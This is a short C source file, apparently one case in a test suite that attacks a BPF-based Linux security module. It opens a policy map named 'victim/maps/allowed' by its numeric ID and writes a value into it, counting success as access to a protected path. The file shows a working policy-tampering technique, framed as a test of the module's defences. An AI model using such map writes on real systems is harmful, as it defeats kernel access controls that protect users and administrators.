// SPDX-License-Identifier: GPL-2.0-only OR MIT
/*
 * Opens a map that nobody writes by its number, and writes it.
 * Success: /victim/lsm opens.
 */
#include "bpf.h"

static void run(void)
{
	uint32_t zero = 0, one = 1;
	int map = must("BPF_MAP_GET_FD_BY_ID", by_id(BPF_MAP_GET_FD_BY_ID, id_of("victim/maps/allowed"), 0));

	must("BPF_MAP_UPDATE_ELEM", update_map(map, &zero, &one, BPF_ANY));
}

ATTACK("writes a map opened by its id", .run = run);
